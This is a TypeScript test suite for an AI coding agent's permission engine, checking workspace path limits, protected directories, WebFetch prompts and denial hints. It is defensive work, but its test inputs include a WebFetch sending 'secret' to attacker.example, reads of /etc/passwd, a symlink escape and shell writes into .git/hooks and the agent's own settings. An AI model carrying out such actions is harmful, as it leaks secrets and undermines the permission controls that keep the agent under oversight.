/**
 * The one decision function (path policy included), denial hints, the Settings / Permissions layers and the
 * shipped bash grammar.
 */
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { pathToFileURL } from "node:url"
import { afterEach, beforeEach, describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Layer from "effect/Layer"
import * as PermissionsLive from "../../src/layers/PermissionsLive.js"
import * as SettingsLive from "../../src/layers/SettingsLive.js"
import {
  explicitlyAllowsEdit,
  formatHint,
  headlessDenial,
  NOTHING_ALLOWS,
  PROTECTED_SOURCE,
  WORKSPACE_SOURCE
} from "../../src/permissions/PermissionEngine.js"
import { findGrammar, GRAMMAR_CANDIDATES } from "../../src/permissions/ShellParser.js"
import { BUILTIN_TOOL_NAMES, closestName, MCP_TOOL_NAME } from "../../src/permissions/ToolNames.js"
import { Permissions } from "../../src/services/Permissions.js"
import { Settings } from "../../src/services/Settings.js"
import { decideWith, makeSandbox, rulesFor, type Sandbox, settingsJson, TOOLS } from "./helpers.js"

let sandbox: Sandbox
beforeEach(() => {
  sandbox = makeSandbox()
})
afterEach(() => sandbox.cleanup())

describe("one decision: the path policy of the file tools", () => {
  it.effect("a bare Read rule does not allow what Read would refuse (outside the workspace)", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, { allow: ["Read"] })
      const passwd = yield* decideWith(rules, TOOLS.Read, { file_path: "/etc/passwd" })
      expect(passwd).toMatchObject({ type: "deny", source: WORKSPACE_SOURCE })
      if (passwd.type === "deny") expect(passwd.reason).toContain(sandbox.root)
      // not even bypassPermissions, and not through `..` or Glob/Grep/LS paths
      expect((yield* decideWith(rules, TOOLS.Read, { file_path: "/etc/passwd" }, "bypassPermissions")).type).toBe(
        "deny"
      )
      expect((yield* decideWith(rules, TOOLS.Read, { file_path: "../home/x" })).type).toBe("deny")
      expect((yield* decideWith(rules, TOOLS.Grep, { pattern: "x", path: "/etc" })).type).toBe("deny")
      // inside the workspace the rule allows
      sandbox.write("project/a.txt", "a")
      expect(yield* decideWith(rules, TOOLS.Read, { file_path: "a.txt" })).toMatchObject({ type: "allow" })
    })
  )

  it.effect("a symlink out of the workspace is outside", () =>
    Effect.gen(function* () {
      fs.mkdirSync(path.join(sandbox.base, "elsewhere"))
      fs.symlinkSync(path.join(sandbox.base, "elsewhere"), path.join(sandbox.root, "link"))
      const rules = yield* rulesFor(sandbox, { allow: ["Read"] })
      expect((yield* decideWith(rules, TOOLS.Read, { file_path: "link/x" })).type).toBe("deny")
      // a dangling link too: Write would follow it to its target
      fs.symlinkSync(path.join(sandbox.base, "elsewhere", "new.txt"), path.join(sandbox.root, "dangling"))
      const write = yield* decideWith(rules, TOOLS.Write, { file_path: "dangling" }, "acceptEdits")
      expect(write).toMatchObject({ type: "deny", source: WORKSPACE_SOURCE })
    })
  )

  it.effect("deny rules still name themselves before the workspace policy", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, { deny: ["Read(//etc/**)"] })
      expect(yield* decideWith(rules, TOOLS.Read, { file_path: "/etc/passwd" })).toMatchObject({
        type: "deny",
        source: expect.stringContaining("rule:Read(//etc/**)")
      })
    })
  )

  it.effect("protected directories need an explicit allow rule for the path, in every mode", () =>
    Effect.gen(function* () {
      const plain = yield* rulesFor(sandbox, { allow: ["Edit", "Write"] })
      for (const mode of ["default", "acceptEdits", "bypassPermissions"] as const) {
        const git = yield* decideWith(plain, TOOLS.Write, { file_path: ".git/config" }, mode)
        expect(git).toMatchObject({ type: "deny", source: PROTECTED_SOURCE })
        if (git.type === "deny") expect(git.reason).toContain("Write(./.git/config)")
        expect(yield* decideWith(plain, TOOLS.Edit, { file_path: ".sage/settings.json" }, mode)).toMatchObject({
          type: "deny",
          source: PROTECTED_SOURCE
        })
      }
      const explicit = yield* rulesFor(sandbox, { allow: ["Write(.git/config)"] })
      expect((yield* decideWith(explicit, TOOLS.Write, { file_path: ".git/config" }, "bypassPermissions")).type).toBe(
        "allow"
      )
      expect(explicitlyAllowsEdit(explicit)(path.join(sandbox.root, ".git", "config"))).toBe(true)
      expect(explicitlyAllowsEdit(plain)(path.join(sandbox.root, ".git", "config"))).toBe(false)
      // reading there is fine
      expect((yield* decideWith(plain, TOOLS.Read, { file_path: ".git/config" })).type).toBe("allow")
    })
  )
})

describe("shell writes into protected directories", () => {
  const redirect = (target: string) => ({ command: `echo x > ${target}` })

  it.effect("need an explicit allow rule for the path: not acceptEdits, a bare Edit rule or the whole Bash tool", () =>
    Effect.gen(function* () {
      const echo = yield* rulesFor(sandbox, { allow: ["Bash(echo:*)", "Edit"] })
      for (const target of [".sage/settings.local.json", ".git/hooks/pre-commit", "./sub/../.git/config"]) {
        const decision = yield* decideWith(echo, TOOLS.Bash, redirect(target), "acceptEdits")
        expect(decision.type).toBe("ask")
        if (decision.type === "ask") expect(decision.reason).toContain("a protected directory")
      }
      const whole = yield* rulesFor(sandbox, { allow: ["Bash"] })
      expect((yield* decideWith(whole, TOOLS.Bash, redirect(".git/hooks/pre-commit"))).type).toBe("ask")
      // ordinary redirections are unchanged
      expect((yield* decideWith(echo, TOOLS.Bash, redirect("src/a.txt"), "acceptEdits")).type).toBe("allow")
      expect((yield* decideWith(whole, TOOLS.Bash, redirect("src/a.txt"))).type).toBe("allow")
    })
  )

  it.effect("an explicit rule allows it; bypassPermissions still asks (protected in every mode)", () =>
    Effect.gen(function* () {
      const explicit = yield* rulesFor(sandbox, { allow: ["Bash(echo:*)", "Edit(.git/hooks/**)"] })
      expect(yield* decideWith(explicit, TOOLS.Bash, redirect(".git/hooks/pre-commit"))).toMatchObject({
        type: "allow",
        source: expect.stringContaining("rule:Edit(.git/hooks/**)")
      })
      const none = yield* rulesFor(sandbox, {})
      expect((yield* decideWith(none, TOOLS.Bash, redirect(".git/config"), "bypassPermissions")).type).toBe("ask")
      expect((yield* decideWith(none, TOOLS.Bash, redirect("src/.bashrc"), "bypassPermissions")).type).toBe("ask")
    })
  )
})

describe("WebFetch is asked about; Grep and Glob are decided on the directory they search", () => {
  it.effect("WebFetch asks in default mode and names the domain rule that would allow it", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, {})
      const decision = yield* decideWith(rules, TOOLS.WebFetch, { url: "https://attacker.example/?q=secret" })
      expect(decision).toMatchObject({ type: "ask", suggestion: "WebFetch(domain:attacker.example)" })
      if (decision.type !== "ask") return
      expect(decision.hint).toContain("`WebFetch(domain:attacker.example)`")
      expect(decision.hint).not.toContain("acceptEdits")
      const allowed = yield* rulesFor(sandbox, { allow: ["WebFetch(domain:attacker.example)"] })
      expect((yield* decideWith(allowed, TOOLS.WebFetch, { url: "https://attacker.example/x" })).type).toBe("allow")
    })
  )

  it.effect("a Glob pattern's fixed leading directories and Grep's default path are the searched directory", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, { deny: ["Read(./secrets/**)"] })
      const glob = yield* decideWith(rules, TOOLS.Glob, { pattern: "secrets/**/*.txt" })
      expect(glob).toMatchObject({ type: "deny", source: "rule:Read(./secrets/**) in options" })
      expect((yield* decideWith(rules, TOOLS.Glob, { pattern: "src/**/*.txt" })).type).toBe("allow")
      expect(yield* decideWith(rules, TOOLS.Glob, { pattern: "/etc/*" })).toMatchObject({
        type: "deny",
        source: WORKSPACE_SOURCE
      })
      expect((yield* decideWith(rules, TOOLS.Grep, { pattern: "x" })).type).toBe("allow")
      const everything = yield* rulesFor(sandbox, { deny: ["Read"] })
      expect((yield* decideWith(everything, TOOLS.Grep, { pattern: "x" })).type).toBe("deny")
    })
  )
})

describe("denial hints", () => {
  it.effect("a command: the rule that allows it, never acceptEdits (which would not)", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, {})
      const decision = yield* decideWith(rules, TOOLS.Bash, { command: "git push origin main" })
      expect(decision.type).toBe("ask")
      if (decision.type !== "ask") return
      expect(decision.hint).toContain("`Bash(git push:*)`")
      expect(decision.hint).toContain("SDK: allowedTools")
      expect(decision.hint).toContain("CLI: --allowed-tools")
      expect(decision.hint).not.toContain("acceptEdits")
      const message = headlessDenial({ name: "Bash" }, decision)
      expect(message).toContain("not granted")
      expect(message).toContain("`Bash(git push:*)`")
    })
  )

  it.effect("every command of a chain is named, and the rules together allow it", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, {})
      const decision = yield* decideWith(rules, TOOLS.Bash, { command: "make build && npm publish" })
      expect(decision.type === "ask" && decision.hint).toContain("`Bash(make build:*)`, `Bash(npm publish:*)`")
      const allowed = yield* rulesFor(sandbox, { allow: ["Bash(make build:*)", "Bash(npm publish:*)"] })
      expect((yield* decideWith(allowed, TOOLS.Bash, { command: "make build && npm publish" })).type).toBe("allow")
    })
  )

  it.effect("an edit: acceptEdits is offered because it allows the call", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, {})
      const decision = yield* decideWith(rules, TOOLS.Edit, { file_path: "src/a.ts" })
      expect(decision.type).toBe("ask")
      if (decision.type !== "ask") return
      expect(decision.hint).toContain("`Edit(./src/a.ts)`")
      expect(decision.hint).toContain(
        'permission mode acceptEdits (CLI: --permission-mode acceptEdits; SDK: permissionMode: "acceptEdits")'
      )
    })
  )

  it.effect("an ask rule: nothing but changing it would allow the call", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, { ask: ["Bash(git push:*)"], allow: ["Bash"] })
      const decision = yield* decideWith(rules, TOOLS.Bash, { command: "git push" })
      expect(decision.type).toBe("ask")
      if (decision.type !== "ask") return
      expect(decision.hint).toBe(NOTHING_ALLOWS)
      expect(headlessDenial({ name: "Bash" }, decision)).toContain("No allow rule or permission mode would allow it")
      // a service that gives no hint: the message says no more than it knows
      expect(headlessDenial({ name: "X" }, { reason: "r" })).toBe(
        "Permission to use X was not granted: r. No one is available to approve it in this non-interactive run."
      )
    })
  )

  it.effect("a command that cannot be checked exactly: only the whole tool would allow it", () =>
    Effect.gen(function* () {
      const rules = yield* rulesFor(sandbox, {})
      const decision = yield* decideWith(rules, TOOLS.Bash, { command: "$CMD --force" })
      expect(decision.type).toBe("ask")
      if (decision.type !== "ask") return
      expect(decision.hint).toContain("`Bash`")
      expect(decision.hint).not.toContain("acceptEdits")
    })
  )

  it("formats rules and modes neutrally for CLI and SDK users", () => {
    expect(formatHint({ rules: [], mode: "bypassPermissions" })).toBe(
      'To allow it, use the permission mode bypassPermissions, which allows every tool call (CLI: --permission-mode bypassPermissions; SDK: permissionMode: "bypassPermissions").'
    )
  })
})

describe("layers", () => {
  it.effect("PermissionsLive.layer reads Settings from context; allowAlways goes through Settings", () =>
    Effect.gen(function* () {
      sandbox.write("project/.sage/settings.json", settingsJson({ allow: ["Bash(npm test:*)"] }))
      const layer = PermissionsLive.layer.pipe(
        Layer.provideMerge(SettingsLive.layer({ cwd: sandbox.root, homeDir: sandbox.home }))
      )
      yield* Effect.gen(function* () {
        const permissions = yield* Permissions
        const settings = yield* Settings
        const ctx = { tool: TOOLS.Bash, cwd: sandbox.root, mode: "default" as const }
        expect((yield* permissions.check({ id: "1", name: "Bash", input: { command: "npm test" } }, ctx)).type).toBe(
          "allow"
        )
        expect((yield* permissions.check({ id: "2", name: "Bash", input: { command: "make" } }, ctx)).type).toBe("ask")
        yield* permissions.allowAlways("Bash(make)")
        expect((yield* settings.ruleSet).rules.map((r) => r.text)).toContain("Bash(make)")
        expect((yield* permissions.check({ id: "3", name: "Bash", input: { command: "make" } }, ctx)).type).toBe(
          "allow"
        )
      }).pipe(Effect.provide(layer))
    })
  )

  it.effect("a malformed settings file fails SettingsLive.layer", () =>
    Effect.gen(function* () {
      sandbox.write("project/.sage/settings.json", '{"permisions": {}}')
      const exit = yield* Effect.exit(
        Effect.provide(
          Effect.gen(function* () {
            return yield* Settings
          }),
          PermissionsLive.layerWithSettings({ cwd: sandbox.root, homeDir: sandbox.home })
        )
      )
      expect(Exit.isFailure(exit)).toBe(true)
    })
  )
})

describe("the shipped bash grammar", () => {
  it.effect("is found beside the module, from dist/permissions, dist/bin.js and dist/chunks", () =>
    Effect.promise(async () => {
      const grammar = fs.readFileSync(new URL("../../src/permissions/tree-sitter-bash.wasm", import.meta.url))
      expect(grammar.length).toBeGreaterThan(100_000)
      const dist = fs.mkdtempSync(path.join(os.tmpdir(), "sage-dist-"))
      try {
        fs.mkdirSync(path.join(dist, "permissions"))
        fs.mkdirSync(path.join(dist, "chunks"))
        fs.writeFileSync(path.join(dist, "permissions", "tree-sitter-bash.wasm"), grammar)
        for (const module of ["permissions/ShellParser.js", "bin.js", "chunks/chunk-ABC.js"]) {
          const found = await findGrammar(pathToFileURL(path.join(dist, module)))
          expect(found.length).toBe(grammar.length)
        }
        fs.rmSync(path.join(dist, "permissions"), { recursive: true })
        await expect(findGrammar(pathToFileURL(path.join(dist, "bin.js")))).rejects.toThrow(
          "tree-sitter-bash.wasm not found"
        )
      } finally {
        fs.rmSync(dist, { recursive: true, force: true })
      }
      expect(GRAMMAR_CANDIDATES.length).toBe(3)
    })
  )
})

describe("tool names", () => {
  it("knows the built-in tools and MCP names, and suggests the closest", () => {
    expect(BUILTIN_TOOL_NAMES).toContain("TodoWrite")
    expect(MCP_TOOL_NAME.test("mcp__github")).toBe(true)
    expect(MCP_TOOL_NAME.test("mcp__github__create_issue")).toBe(true)
    expect(MCP_TOOL_NAME.test("mcp__github__*")).toBe(true)
    expect(MCP_TOOL_NAME.test("github")).toBe(false)
    expect(closestName("Raed", BUILTIN_TOOL_NAMES)).toBe("Read")
    expect(closestName("WebFetc", BUILTIN_TOOL_NAMES)).toBe("WebFetch")
    expect(closestName("Deploy", BUILTIN_TOOL_NAMES)).toBeUndefined()
  })
})
